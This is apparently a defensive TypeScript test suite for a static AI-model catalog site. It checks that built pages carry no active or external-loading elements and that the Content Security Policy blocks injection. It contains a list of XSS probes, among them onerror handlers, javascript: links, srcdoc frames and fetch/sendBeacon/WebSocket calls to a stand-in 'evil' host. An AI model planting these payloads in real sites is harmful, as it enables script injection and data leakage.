/** Each gate alone: pages without check and policy, and the policy without pages that keep to it. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import fc from 'fast-check';
import { parse } from 'parse5';
import type { Browser, Page } from 'playwright-core';
import { HONEST } from './hostile/honest.ts';
import { BODIES, TEXTS, hostileEntries } from './hostile/harmless.ts';
import { GOOD, OPT } from './hostile/tree.ts';
import { launch } from './support/browser.ts';
import { attribute, elementsOf, textOf } from './support/pages.ts';
import type { Element } from './support/pages.ts';
import { copyProgram, writeEntries } from './support/project.ts';
import { serve } from './support/server.ts';

/** Lets every entry through. */
const NO_SCHEMA = `import { defineCollection } from 'astro:content';
import { entryLoader } from './content/loader.ts';
export const collections = Object.fromEntries(['models', 'tools', 'licenses', 'organizations', 'categories'].map((name) => [name, defineCollection({ loader: entryLoader(name) })]));
`;

// Controls can't be written into HTML, and the schema has no place for line breaks in names.
const anyName = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }).map((text) => text.replace(/[\p{Cc}\p{Cs}]/gu, '').replace(/\s+/g, ' ').trim()).filter((text) => text !== '');
const NAMES = fc.sample(fc.oneof(anyName, fc.array(fc.constantFrom(...TEXTS, '&', '<', '"', "'", '`', '\\', '{', '}', '</', '-->', 'script')).map((parts) => parts.join('').trim()).filter((text) => text !== '')), { numRuns: 200, seed: 1 });

const { folder: copy, remove } = copyProgram();
const dist = join(copy, 'dist');
let browser: Browser;
let site: Awaited<ReturnType<typeof serve>>;
let pages: { url: string; file: string; html: string; elements: Element[] }[];

before(async () => {
  writeFileSync(join(copy, 'src/content.config.ts'), NO_SCHEMA);
  writeEntries(copy, { ...GOOD, ...HONEST, ...hostileEntries() });
  writeEntries(copy, Object.fromEntries(NAMES.map((name, index) => [`models/name-${index}.md`, OPT.replace('name: OPT', () => `name: ${JSON.stringify(name)}`)])));
  const { status, stdout, stderr } = spawnSync(process.execPath, ['node_modules/astro/bin/astro.mjs', 'build', '--force', '--outDir', 'dist'], { cwd: copy, encoding: 'utf8', env: { ...process.env, SITE_URL: 'https://catalog.example/' } });
  assert.equal(status, 0, stdout + stderr);
  pages = readdirSync(dist, { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith('.html'))
    .map((file) => {
      const html = readFileSync(join(dist, file), 'utf8');
      return { file, url: `/${file.replaceAll('\\', '/').replace(/index\.html$/, '')}`, html, elements: elementsOf(parse(html)) };
    });
  [browser, site] = await Promise.all([launch(), serve(dist)]);
});
after(async () => {
  await browser?.close();
  await site?.close();
  remove();
});

const OWN_SCRIPT = /^\/_astro\/[\w.-]+\.js$/;

test('without a check, no element of any page runs, loads or leads where it should not', () => {
  const found = pages.flatMap(({ url, elements }) =>
    elements.flatMap((element) => {
      const wrong = (what: string) => [`${url} <${element.tagName}> ${what}`];
      if (['iframe', 'object', 'embed', 'base', 'svg:script', 'math', 'plaintext', 'dialog'].includes(element.tagName)) return wrong('is there');
      if (element.tagName === 'img' || element.tagName === 'style' && element.parentNode && 'tagName' in element.parentNode && element.parentNode.tagName !== 'head') return wrong('is there');
      if (element.tagName === 'script') {
        const source = attribute(element, 'src');
        const data = attribute(element, 'type') === 'application/ld+json';
        if (data) JSON.parse(textOf(element));
        else if (source === undefined ? !/^\{const d=/.test(textOf(element)) : !OWN_SCRIPT.test(source)) return wrong(source ?? textOf(element));
      }
      return element.attrs.flatMap(({ name, value }) => {
        if (name.startsWith('on') || name === 'srcdoc' || (name === 'style' && element.tagName !== 'svg')) return wrong(name);
        if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name) && !/^(?:https:\/\/|mailto:|#|\/(?![/\\]))/.test(value)) return wrong(`${name}=${value}`);
        return [];
      });
    }),
  );
  assert.deepEqual(found, []);
});

test('without a check, the frame of every page is whole', () => {
  for (const { url, html, elements } of pages) {
    if (html.includes('http-equiv="refresh"')) continue;
    for (const tag of ['h1', 'main', 'footer', 'title']) assert.equal(elements.filter(({ tagName }) => tagName === tag).length, 1, `${url} has other than one <${tag}>`);
    for (const element of elements) {
      const id = attribute(element, 'id');
      if (id !== undefined && elements.some((other) => other !== element && attribute(other, 'id') === id)) assert.fail(`${url} has #${id} twice`);
    }
  }
});

test('whatever a name is, page and data say exactly that', () => {
  const names = new Map((JSON.parse(readFileSync(join(dist, 'models/explore.json'), 'utf8')) as { entries: { id: string; name: string }[] }).entries.map(({ id, name }) => [id, name]));
  for (const [index, name] of NAMES.entries()) {
    const page = pages.find(({ url }) => url === `/models/name-${index}/`);
    const heading = page?.elements.find(({ tagName }) => tagName === 'h1');
    assert.equal(heading && textOf(heading), name);
    assert.equal((JSON.parse(readFileSync(join(dist, `models/name-${index}.json`), 'utf8')) as { name: string }).name, name);
    assert.equal(names.get(`name-${index}`), name);
    const structured = page?.elements.filter((element) => attribute(element, 'type') === 'application/ld+json').map((element) => textOf(element)).join('') ?? '';
    assert.ok(JSON.stringify(JSON.parse(structured)).includes(JSON.stringify(name).slice(1, -1)));
  }
});

/** Watches a page for what nothing may do. */
function watch(page: Page): string[] {
  const done: string[] = [];
  page.on('dialog', (dialog) => {
    done.push(`${page.url()} opened a dialog`);
    void dialog.dismiss();
  });
  page.on('request', (request) => !request.url().startsWith(site.origin) && done.push(`${page.url()} asked for ${request.url()}`));
  page.on('popup', () => done.push(`${page.url()} opened a window`));
  page.on('framenavigated', (frame) => frame !== page.mainFrame() && done.push(`${page.url()} has a frame`));
  return done;
}

/** Serves the pages without their policy. */
async function withoutPolicy(page: Page): Promise<void> {
  await page.route('**/*', async (route) => {
    if (!route.request().url().startsWith(site.origin)) return route.abort();
    const response = await route.fetch();
    if (!response.headers()['content-type']?.startsWith('text/html')) return route.fulfill({ response });
    return route.fulfill({ response, body: (await response.text()).replace(/<meta http-equiv="content-security-policy"[^>]*>/i, '') });
  });
}

test('without check and policy, nothing runs or is asked for in a browser: pages', { timeout: 240_000 }, async () => {
  const page = await browser.newPage();
  const done = watch(page);
  await withoutPolicy(page);
  const hostile = pages.filter(({ url }) => /\/hostile-\d+\/$/.test(url) || /^\/(?:\w+\/)?$/.test(url));
  assert.ok(hostile.length > 4 * BODIES.length);
  for (const { url } of hostile) {
    await page.goto(site.origin + url, { waitUntil: 'load' });
    // What waits for a finger or the keyboard.
    await page.evaluate(() => {
      for (const element of document.querySelectorAll('main :is(summary, [tabindex], input)')) {
        for (const type of ['mouseover', 'focus', 'toggle', 'pointerenter']) element.dispatchEvent(new Event(type, { bubbles: true }));
      }
    });
  }
  assert.deepEqual(done, []);
  // Some requests, as for the icon, may still be on their way through the route.
  await page.unrouteAll({ behavior: 'ignoreErrors' });
  await page.close();
});

test('without check and policy, nothing runs or is asked for in a browser: search, filters, comparison, form', { timeout: 240_000 }, async () => {
  const page = await browser.newPage();
  const done = watch(page);
  await withoutPolicy(page);
  for (const query of ['hostile', 'alert', ...TEXTS.slice(0, 8)]) {
    await page.goto(`${site.origin}/search/?q=${encodeURIComponent(query)}`);
    await page.waitForFunction(() => (document.querySelector('[data-results]')?.textContent ?? '').trim() !== '');
  }
  await page.goto(`${site.origin}/models/?name=alert&organization=hostile-1&sort=size&device=rtx-4090-24`);
  await page.waitForFunction(() => / of |No model/.test(document.querySelector('[data-status]')?.textContent ?? ''));
  await page.goto(`${site.origin}/compare/?${[0, 1, 2, 3].map((index) => `m=hostile-${index}`).join('&')}`);
  await page.locator('table th', { hasText: 'alert' }).first().waitFor();
  await page.goto(`${site.origin}/models/hostile-2/`);
  await page.locator('input.tick').first().check();
  await page.locator('.tray').waitFor();
  await page.goto(`${site.origin}/contribute/model/`);
  await page.getByRole('textbox', { name: /^Name/ }).first().fill(TEXTS[5] ?? '');
  await page.waitForTimeout(500);
  assert.deepEqual(done, []);
  // Some requests, as for the icon, may still be on their way through the route.
  await page.unrouteAll({ behavior: 'ignoreErrors' });
  await page.close();
});

test('the policy alone stops every probe', async (context) => {
  const policy = /<meta http-equiv="content-security-policy"[^>]*>/i.exec(pages.find(({ url }) => url === '/models/opt/')?.html ?? '')?.[0];
  assert.ok(policy);
  // Browsers report requests that the policy then stops: what counts is what arrives.
  const asked: string[] = [];
  const elsewhere = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  context.after(() => elsewhere.close());
  const evil = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  const probes = [
    '<script>hit("inline script")</script>',
    `<script src="http://${evil}/x.js"></script>`,
    `<script type=module>import("http://${evil}/y.js")</script>`,
    '<img src=x onerror="hit(\'handler\')">',
    '<svg onload="hit(\'svg handler\')"></svg>',
    `<img src="http://${evil}/beacon.png">`,
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="hit(\'data image\')">',
    `<link rel=stylesheet href="http://${evil}/x.css">`,
    `<link rel=preload as=script href="http://${evil}/p.js">`,
    `<style>body { --hit: 1; background: url(http://${evil}/bg.png) }</style>`,
    '<p id=styled style="color: rgb(1, 2, 3)">x</p>',
    `<iframe src="http://${evil}/"></iframe>`,
    '<iframe srcdoc="<script>parent.hit(\'srcdoc\')</script>"></iframe>',
    `<object data="http://${evil}/x.swf"></object>`,
    `<embed src="http://${evil}/x.swf">`,
    `<video src="http://${evil}/x.mp4" autoplay></video>`,
    `<base href="http://${evil}/">`,
    `<form id=form action="http://${evil}/"><input name=a></form>`,
    '<a id=link href="javascript:hit(\'javascript address\')">x</a>',
  ];
  // A script of the site's own, turned against it.
  const attempts = [
    'document.querySelector("#link").click()',
    '(0, eval)("hit(\\"eval\\")")',
    'new Function("hit(\\"Function\\")")()',
    'setTimeout("hit(\\"setTimeout\\")")',
    'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=hit(1)>")',
    `fetch("http://${evil}/data").then(() => hit("fetch"), () => 0)`,
    `new WebSocket("ws://${evil}/")`,
    `navigator.sendBeacon("http://${evil}/ping")`,
    'new Worker("data:text/javascript,0")',
    'document.querySelector("#form").submit()',
  ].map((attempt) => `try { ${attempt} } catch {}`);
  /** What the probes did on a page with this in its head. */
  const outcome = async (head: string) => {
    asked.length = 0;
    mkdirSync(join(dist, 'probe'), { recursive: true });
    const state = '{ base: document.baseURI, color: getComputedStyle(document.querySelector("#styled") ?? document.body).color }';
    writeFileSync(join(dist, 'probe/attempts.js'), `addEventListener("load", () => { loaded(${state}); ${attempts.join('\n')} });`);
    writeFileSync(join(dist, 'probe/index.html'), `<!doctype html><html lang="en"><head>${head}<title>Probes</title></head><body>${probes.join('\n')}<script src="${site.origin}/probe/attempts.js"></script></body></html>`);
    const page = await browser.newPage();
    const hits: string[] = [];
    await page.exposeFunction('hit', (what: string) => hits.push(what));
    const loaded = new Promise<object>((resolve) => void page.exposeFunction('loaded', resolve));
    // One of the probes leads away from the page, at any time: so the page says itself what became of it.
    await page.goto(`${site.origin}/probe/`, { waitUntil: 'commit' });
    const seen = await loaded;
    await page.waitForTimeout(1000);
    await page.close();
    return { ...seen, hits, asked: [...asked] };
  };
  assert.deepEqual(await outcome(policy), { hits: [], base: `${site.origin}/probe/`, color: 'rgb(0, 0, 0)', asked: [] });
  // The probes are live: without the policy they do reach elsewhere.
  assert.ok((await outcome('')).asked.length > 10);
});

test('honest entries look as they were written', async () => {
  const page = await browser.newPage({ viewport: { width: 320, height: 800 } });
  for (const path of Object.keys(HONEST)) {
    await page.goto(`${site.origin}/${path.replace(/\.md$/, '/')}`);
    assert.equal(await page.evaluate(() => Math.max(0, document.documentElement.scrollWidth - innerWidth)), 0, `${path} is wider than a phone`);
  }
  await page.goto(`${site.origin}/models/arabic/`);
  assert.equal(await page.locator('h1').textContent(), 'نموذج لغوي');
  await page.goto(`${site.origin}/models/html-words/`);
  assert.match((await page.locator('div.prose').textContent()) ?? '', /If a < b, <script> is code, and a <b> is not a tag\./);
  await page.close();
});
